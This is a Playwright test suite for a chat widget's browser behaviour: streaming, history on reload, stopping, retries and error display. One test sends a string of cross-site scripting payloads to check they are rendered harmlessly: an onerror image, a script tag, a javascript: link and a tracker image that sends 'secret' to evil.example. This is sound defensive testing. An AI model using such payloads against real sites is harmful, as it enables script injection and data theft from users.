"""widget.js in headless Chromium through Playwright: the demo page on the real default model
(send, watch it stream, reload and find the history, stop a generation), and the widget's
Markdown rendering against hostile answers (a scripted WebSocket server, so the text is exact)."""

from __future__ import annotations

import asyncio
import json
from concurrent.futures import ThreadPoolExecutor

import pytest
from playwright.sync_api import Page, expect

from dialog.store import Site, Store
from tests.waiting import eventually

pytestmark = pytest.mark.browser


def add_site(dialog_dir, site: Site) -> None:  # type: ignore[no-untyped-def]
    """Through the real store, on its own thread (Playwright's sync API holds this thread's event loop)."""

    async def put() -> None:
        store = await Store.open(dialog_dir / "chat.db")
        await store.put_site(site)
        await store.close()

    with ThreadPoolExecutor(1) as pool:
        pool.submit(asyncio.run, put()).result()


def open_chat(page: Page, url: str) -> None:
    page.goto(f"{url}/widget/demo")
    page.locator("#tandem-chat .launcher").click()
    expect(page.locator("#tandem-chat .panel")).to_be_visible()


@pytest.mark.default_model
def test_demo_page_send_stream_reload_stop(default_server, browser, tmp_path) -> None:
    page = browser.new_page()
    try:
        open_chat(page, default_server.url)
        page.locator("#tandem-chat textarea").fill("Name the capital of France.")
        page.locator("#tandem-chat textarea").press("Enter")
        expect(page.locator("#tandem-chat .msg.user")).to_have_text("Name the capital of France.")
        answer = page.locator("#tandem-chat .msg.assistant[data-finish]")
        expect(answer).to_have_count(1, timeout=120_000)  # done
        expect(page.locator("#tandem-chat .send")).to_be_visible()
        final = answer.inner_text()
        assert "Paris" in final

        page.reload()  # the conversation survives a reload
        page.locator("#tandem-chat .launcher").click()
        expect(page.locator("#tandem-chat .msg")).to_have_count(2)
        expect(page.locator("#tandem-chat .msg.user")).to_have_text("Name the capital of France.")
        expect(page.locator("#tandem-chat .msg.assistant")).to_have_text(final)

        page.locator("#tandem-chat textarea").fill("Write a very long story about a lighthouse keeper and his cat.")
        page.locator("#tandem-chat textarea").press("Enter")
        story = page.locator("#tandem-chat .msg.assistant").nth(1)
        expect(story).not_to_be_empty(timeout=60_000)
        first_seen = story.inner_text()
        eventually(lambda: len(story.inner_text()) > len(first_seen), "the answer streaming in, piece by piece", 60)
        expect(page.locator("#tandem-chat .stop")).to_be_visible()
        page.locator("#tandem-chat .stop").click()
        expect(page.locator("#tandem-chat .msg.assistant").last.locator(".note")).to_have_text("(stopped)", timeout=30_000)
        expect(page.locator("#tandem-chat .send")).to_be_visible()
        page.screenshot(path=str(tmp_path / "widget.png"))
    finally:
        page.close()


HOSTILE = (
    "Here is **bold**, `code` and a [safe link](https://docs.example.com/help).\n\n"
    '<img src=x onerror="window.pwned=1"> <script>window.pwned=2</script>\n\n'
    "![tracker](https://evil.example/p.png?d=secret) and [bad](javascript:window.pwned=3)\n\n"
    "- one\n- two\n\n```python\nprint('<b>hi</b>')\n```"
)


def test_answers_render_as_safe_markdown(tiny_server, browser) -> None:
    with tiny_server() as s:
        page = browser.new_page()
        try:

            def server(ws):  # type: ignore[no-untyped-def]
                def on_message(message):  # type: ignore[no-untyped-def]
                    frame = json.loads(message)
                    if frame["type"] == "hello":
                        ws.send(
                            json.dumps({"type": "welcome", "conversation_id": "c", "token": "t", "history": [], "seq": 0, "reset": True})
                        )
                    elif frame["type"] == "message":
                        ws.send(json.dumps({"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}))
                        for i, piece in enumerate([HOSTILE[:40], HOSTILE[40:]]):
                            ws.send(json.dumps({"type": "delta", "message_id": "a1", "seq": 2 + i, "text": piece}))
                        ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": 4, "finish_reason": "stop"}))

                ws.on_message(on_message)

            page.route_web_socket("**/v1/dialog*", server)
            open_chat(page, s.url)
            page.locator("#tandem-chat textarea").fill("hi")
            page.locator("#tandem-chat textarea").press("Enter")
            answer = page.locator("#tandem-chat .msg.assistant")
            expect(answer).to_contain_text("print('<b>hi</b>')")
            assert answer.locator("strong").inner_text() == "bold" and answer.locator("code").first.inner_text() == "code"
            link = answer.locator("a")
            expect(link).to_have_count(1)  # the javascript: link is plain text
            assert link.get_attribute("href") == "https://docs.example.com/help"
            assert link.get_attribute("rel") == "noopener noreferrer"
            assert answer.locator("img, script, b").count() == 0  # raw HTML is text, the remote image is not loaded
            assert "<img src=x" in answer.inner_text() and "tracker" in answer.inner_text()
            assert answer.locator("li").count() == 2 and answer.locator("pre code").count() == 1
            assert page.evaluate("window.pwned") is None
        finally:
            page.close()


def test_errors_are_shown_in_plain_words(tiny_server, browser) -> None:
    """A site that allows only https://shop.example, previewed from this server's own origin: the
    server refuses at the handshake and the widget says so, instead of spinning."""
    with tiny_server() as s:
        add_site(s.dialog_dir, Site("strict", "Strict", ("https://shop.example",), "Be brief."))
        page = browser.new_page()
        try:
            page.goto(f"{s.url}/widget/demo?site_key=strict")
            page.locator("#tandem-chat .launcher").click()
            expect(page.locator("#tandem-chat .status")).to_have_text("The chat is not available on this website.")
        finally:
            page.close()


def scripted_socket(page: Page, on_hello, on_message):  # type: ignore[no-untyped-def]
    """Route the widget's WebSocket to a script: `on_hello(ws, frame, n)` and `on_message(ws, frame, n)`
    for the n-th connection (from 1). Returns the frames the widget sent, as (connection, frame)."""
    sent: list[tuple[int, dict]] = []
    count = [0]

    def server(ws):  # type: ignore[no-untyped-def]
        count[0] += 1
        n = count[0]

        def on_frame(message):  # type: ignore[no-untyped-def]
            frame = json.loads(message)
            sent.append((n, frame))
            if frame["type"] == "hello":
                on_hello(ws, frame, n)
            elif frame["type"] == "message":
                on_message(ws, frame, n)

        ws.on_message(on_frame)

    page.route_web_socket("**/v1/dialog*", server)
    return sent


def welcome(ws, reset: bool = True) -> None:  # type: ignore[no-untyped-def]
    ws.send(json.dumps({"type": "welcome", "conversation_id": "c", "token": "t", "history": [], "seq": 0, "reset": reset}))


def send_message(page: Page, text: str) -> None:
    page.locator("#tandem-chat textarea").fill(text)
    page.locator("#tandem-chat textarea").press("Enter")


def test_a_message_the_engine_was_too_busy_for_is_sent_again_after_retry_after(tiny_server, browser) -> None:
    """`overloaded` with retry_after 2: the widget counts down ("We're busy — retrying in N s") and
    sends the very same message again (same client_msg_id), which is then answered."""
    with tiny_server() as s:
        page = browser.new_page()
        try:

            def on_message(ws, frame, n):  # type: ignore[no-untyped-def]
                first = len([f for _, f in sent if f["type"] == "message"]) == 1
                ack = {"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}
                if first:
                    ws.send(json.dumps(ack))
                    ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": 2, "finish_reason": "error"}))
                    ws.send(json.dumps({"type": "error", "code": "overloaded", "message": "busy", "retry_after": 2}))
                else:  # the server acknowledges it again (the old seq) and answers it in the same answer
                    ws.send(json.dumps(ack))
                    ws.send(json.dumps({"type": "delta", "message_id": "a1", "seq": 3, "text": "Thanks for waiting."}))
                    ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": 4, "finish_reason": "stop"}))

            sent = scripted_socket(page, lambda ws, f, n: welcome(ws), on_message)
            open_chat(page, s.url)
            send_message(page, "are you there?")
            expect(page.locator("#tandem-chat .status")).to_contain_text("We're busy \u2014 retrying in", timeout=5_000)
            answer = page.locator("#tandem-chat .msg.assistant[data-finish='stop']")
            expect(answer).to_have_text("Thanks for waiting.", timeout=10_000)
            expect(page.locator("#tandem-chat .status")).to_have_text("")
            messages = [f for _, f in sent if f["type"] == "message"]
            assert len(messages) == 2 and messages[0] == messages[1]  # the same client_msg_id and text
            expect(page.locator("#tandem-chat .msg.user")).to_have_count(1)
            expect(page.locator("#tandem-chat .msg.user.pending")).to_have_count(0)
            expect(page.locator("#tandem-chat .send")).to_be_visible()
        finally:
            page.close()


def test_the_widget_retries_an_overloaded_message_a_bounded_number_of_times(tiny_server, browser) -> None:
    with tiny_server() as s:
        page = browser.new_page()
        try:

            def on_message(ws, frame, n):  # type: ignore[no-untyped-def]
                count = len([f for _, f in sent if f["type"] == "message"])
                if count == 1:
                    ws.send(json.dumps({"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}))
                    ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": 2, "finish_reason": "error"}))
                else:  # acknowledged again, refused again
                    ws.send(json.dumps({"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}))
                    ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": count + 1, "finish_reason": "error"}))
                ws.send(json.dumps({"type": "error", "code": "overloaded", "message": "busy", "retry_after": 1}))

            sent = scripted_socket(page, lambda ws, f, n: welcome(ws), on_message)
            open_chat(page, s.url)
            send_message(page, "hello?")
            status = page.locator("#tandem-chat .status")
            expect(status).to_have_text("We're very busy right now. Please try again in a moment. (try again in 1 s)", timeout=15_000)
            messages = [f for _, f in sent if f["type"] == "message"]
            assert len(messages) == 4 and all(m == messages[0] for m in messages)  # the first send and three retries
            send_message(page, "and now?")  # the visitor can go on; a new message starts a new count
            expect(status).to_contain_text("retrying in", timeout=5_000)
            assert [f for _, f in sent if f["type"] == "message"][-1]["text"] == "and now?"
        finally:
            page.close()


def test_a_resumed_ack_carrying_the_servers_reference_settles_the_pending_message(tiny_server, browser) -> None:
    """The connection drops before the ack; on resume the server replays the ack as it stored it, with
    its keyed reference ("ref_…") instead of the widget's client_msg_id: the pending message settles."""
    with tiny_server() as s:
        page = browser.new_page()
        try:

            def on_hello(ws, frame, n):  # type: ignore[no-untyped-def]
                if n == 1:
                    welcome(ws)
                    return
                assert frame.get("conversation_id") == "c" and frame.get("last_seq") == 0
                welcome(ws, reset=False)
                ws.send(json.dumps({"type": "ack", "client_msg_id": "ref_" + "ab" * 20, "message_id": "u1", "seq": 1}))
                ws.send(json.dumps({"type": "delta", "message_id": "a1", "seq": 2, "text": "Back again."}))
                ws.send(json.dumps({"type": "done", "message_id": "a1", "seq": 3, "finish_reason": "stop"}))

            def on_message(ws, frame, n):  # type: ignore[no-untyped-def]
                if n == 1:
                    ws.close()  # received, then the connection drops before the ack goes out

            sent = scripted_socket(page, on_hello, on_message)
            open_chat(page, s.url)
            send_message(page, "will this arrive?")
            expect(page.locator("#tandem-chat .msg.assistant[data-finish='stop']")).to_have_text("Back again.", timeout=15_000)
            user = page.locator("#tandem-chat .msg.user")
            expect(user).to_have_count(1)
            expect(user).to_have_attribute("data-message-id", "u1")
            expect(page.locator("#tandem-chat .msg.user.pending")).to_have_count(0)
            assert [n for n, f in sent if f["type"] == "hello"] == [1, 2]
        finally:
            page.close()


def test_a_reasoning_model_thinking_shows_thinking_and_never_its_thoughts(tiny_server, browser) -> None:
    """The `thinking` frame (the service sends it when a reasoning model starts its <think>
    section): the answer's bubble says "Thinking…" until the first words of the answer replace it."""
    with tiny_server() as s:
        page = browser.new_page()
        try:
            sockets = []

            def on_message(ws, frame, n):  # type: ignore[no-untyped-def]
                ws.send(json.dumps({"type": "ack", "client_msg_id": frame["client_msg_id"], "message_id": "u1", "seq": 1}))
                ws.send(json.dumps({"type": "thinking", "message_id": "a1", "seq": 2}))
                sockets.append(ws)

            scripted_socket(page, lambda ws, frame, n: welcome(ws), on_message)
            open_chat(page, s.url)
            send_message(page, "When are you open?")
            answer = page.locator("#tandem-chat .msg.assistant")
            expect(answer).to_have_text("Thinking…")
            expect(answer).to_have_class("msg assistant thinking")
            expect(page.locator("#tandem-chat .stop")).to_be_visible()  # it is working on the answer: it can be stopped
            sockets[0].send(json.dumps({"type": "delta", "message_id": "a1", "seq": 3, "text": "We are open from nine."}))
            expect(answer).to_have_text("We are open from nine.")
            sockets[0].send(json.dumps({"type": "done", "message_id": "a1", "seq": 4, "finish_reason": "stop"}))
            expect(answer).to_have_attribute("data-finish", "stop")
            assert "thinking" not in (answer.get_attribute("class") or "")
        finally:
            page.close()
